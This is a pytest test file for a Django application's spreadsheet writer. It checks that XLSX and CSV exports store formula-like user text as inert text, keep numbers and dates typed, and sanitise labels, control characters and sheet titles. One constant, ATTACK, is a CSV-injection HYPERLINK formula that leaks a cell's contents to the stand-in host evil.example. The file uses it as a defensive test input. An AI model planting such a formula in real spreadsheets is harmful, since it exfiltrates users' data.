"""The one spreadsheet writer: text typed by people is written as text, never as a formula (CSV injection), and
numbers and dates stay numbers and dates."""

import csv
import datetime
import io

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from grappe.core import spreadsheets

ATTACK = '=HYPERLINK("https://evil.example/?leak="&B3,"Click me")'
FORMULA_STARTS = [ATTACK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def workbook_cells(content: bytes) -> list:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))[0]


@pytest.mark.parametrize("text", FORMULA_STARTS)
def test_an_xlsx_cell_that_starts_like_a_formula_is_a_string_marked_as_text(text):
    content = spreadsheets.xlsx(spreadsheets.Sheet("Sheet", ["Name"], [[text]]))

    [cell] = workbook_cells(content)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value.strip() == text.strip()  # XML reads a carriage return back as a line feed
    assert b"<f>" not in content and b"<f " not in content


@pytest.mark.parametrize("text", FORMULA_STARTS)
def test_a_csv_cell_that_starts_like_a_formula_is_written_after_a_single_quote(text):
    content = spreadsheets.csv(spreadsheets.Sheet("Sheet", ["Name"], [[text]]))

    [[header], [cell]] = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert cell == "'" + text
    assert spreadsheets.without_csv_text_mark(cell) == text


def test_numbers_dates_and_plain_text_are_written_as_what_they_are():
    row = [42, 3.5, datetime.date(2026, 5, 4), True, None, "Usinage Précision Laval", "'quoted"]
    sheet = spreadsheets.Sheet("Sheet", ["a", "b", "c", "d", "e", "f", "g"], [row])

    cells = workbook_cells(spreadsheets.xlsx(sheet))
    assert [c.value for c in cells] == [42, 3.5, datetime.datetime(2026, 5, 4), True, None,
                                        "Usinage Précision Laval", "'quoted"]
    assert [c.data_type for c in cells[:4]] == ["n", "n", "d", "b"]
    assert not any(c.quotePrefix for c in cells)
    [_header, written] = list(csv.reader(io.StringIO(spreadsheets.csv(sheet).decode(), newline="")))
    assert written == ["42", "3.5", "2026-05-04", "True", "", "Usinage Précision Laval", "'quoted"]
    assert spreadsheets.without_csv_text_mark("'quoted") == "'quoted"


def test_a_label_of_the_code_is_written_in_the_active_language():
    sheet = spreadsheets.Sheet("Sheet", [gettext_lazy("Name")], [[gettext_lazy("Email")]])

    with translation.override("fr"):
        cells = [cell.value for row in load_workbook(io.BytesIO(spreadsheets.xlsx(sheet))).active.iter_rows()
                 for cell in row]
        assert spreadsheets.csv(sheet).decode().split() == ["Nom", "Courriel"]
    assert cells == ["Nom", "Courriel"]


def test_a_control_character_typed_in_a_note_does_not_break_the_workbook():
    content = spreadsheets.xlsx(spreadsheets.Sheet("Notes", ["Note"], [["Devis\x0b pour\x00 200 pièces"]]))

    assert [c.value for c in workbook_cells(content)] == ["Devis pour 200 pièces"]


def test_every_sheet_is_written_in_order_with_a_title_a_workbook_accepts():
    content = spreadsheets.xlsx(spreadsheets.Sheet("Taux de réponse : mai/juin", ["x"], []),
                                spreadsheets.Sheet("A" * 40, ["y"], [[1]]))

    assert load_workbook(io.BytesIO(content)).sheetnames == ["Taux de réponse   mai juin", "A" * 31]
